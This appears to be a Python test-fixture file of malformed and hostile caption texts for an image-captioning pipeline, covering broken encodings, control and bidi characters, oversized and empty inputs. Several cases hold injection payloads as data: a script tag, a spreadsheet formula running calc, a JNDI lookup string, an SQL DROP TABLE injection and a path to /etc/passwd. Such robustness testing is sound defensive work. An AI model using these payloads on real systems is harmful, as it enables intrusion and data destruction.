"""Texts that call themselves captions; each lies beside a good picture."""

from __future__ import annotations

import json

from tests.hostile.case import SAMPLE, Case

NONE = "no-caption"
LONG = "caption-too-long"
ENCODING = "caption-encoding"


def _of(data: bytes | str):
    return lambda: data if isinstance(data, bytes) else data.encode()


CASES: list[Case] = [
    Case("control.txt", SAMPLE, "control characters", _of("a\x01 red\x1b[31m cat\x07\x7f")),
    Case("nul.txt", SAMPLE, "NUL inside", _of("a cat\0on a mat")),
    Case(
        "latin-1.txt", ENCODING, "Latin-1: letters that are no UTF-8", _of("café".encode("latin-1"))
    ),
    Case("cut-letter.txt", ENCODING, "cut in the middle of a letter", _of("猫と猫".encode()[:-1])),
    Case("surrogate.txt", ENCODING, "half a surrogate pair", _of(b"a cat \xed\xa0\xbd")),
    Case("overlong.txt", ENCODING, "an overlong NUL and slash", _of(b"a cat \xc0\x80\xc0\xaf")),
    Case(
        "utf-16.txt",
        SAMPLE,
        "UTF-16, as Windows writes it",
        _of("a cat, ein Käse".encode("utf-16")),
    ),
    Case("bom.txt", SAMPLE, "a byte order mark", _of("a cat".encode("utf-8-sig"))),
    Case("noise.txt", ENCODING, "bytes of every value", _of(bytes(range(256)) * 4)),
    Case(
        "bidi.txt", SAMPLE, "right-to-left overrides", _of("a \u202ecat\u2066gpj.exe\u2069\u202c")
    ),
    Case(
        "zero-width.txt",
        SAMPLE,
        "zero-width joiners, combining marks by the hundred",
        _of("a\u200d\u200bcat" + "\u0301" * 300),
    ),
    Case(
        "emoji.txt",
        SAMPLE,
        "a family, flags, a letter beyond the basic plane",
        _of("👨‍👩‍👧‍👦 🇩🇪 𝔠𝔞𝔱"),
    ),
    Case("lines.txt", SAMPLE, "many lines of every kind", _of("a\r\ncat\ron\u2028a\vmat\n\n\n")),
    Case(
        "markup.txt",
        SAMPLE,
        "a script, a formula, a template",
        _of("<script>alert(1)</script> =cmd|'/c calc'!A1 {{7*7}} ${jndi:ldap://x} %s %n"),
    ),
    Case("sql.txt", SAMPLE, "quotes", _of("'; DROP TABLE captions; -- \"\\")),
    Case(
        "json.txt", SAMPLE, "JSON with a lone surrogate escaped", _of(json.dumps({"a": "\ud800"}))
    ),
    Case("path.txt", SAMPLE, "a path", _of("../../../etc/passwd")),
    Case(
        "special.txt",
        SAMPLE,
        "tokens that mean something to a text encoder",
        _of("<|endoftext|><|startoftext|> </s> <pad> a cat"),
    ),
    Case("million.txt", LONG, "a million letters", _of("a cat " * 166_667)),
    Case("one-word.txt", LONG, "one word of 20,000 letters", _of("a" * 20_000)),
    Case("limit.txt", SAMPLE, "10,000 letters, just allowed", _of("b" * 10_000)),
    Case(
        "spaces.txt",
        SAMPLE,
        "a megabyte of spaces around a word",
        _of(" " * 500_000 + "cat" + " " * 500_000),
    ),
    Case("empty.txt", NONE, "no bytes", _of("")),
    Case("white.txt", NONE, "white space of every kind", _of(" \t\r\n\u00a0\u2003\u3000\u2028")),
    Case("only-control.txt", NONE, "nothing but control characters", _of("\x00\x01\x02\x1b")),
    Case("only-bom.txt", NONE, "nothing but a byte order mark", _of("".encode("utf-8-sig"))),
]
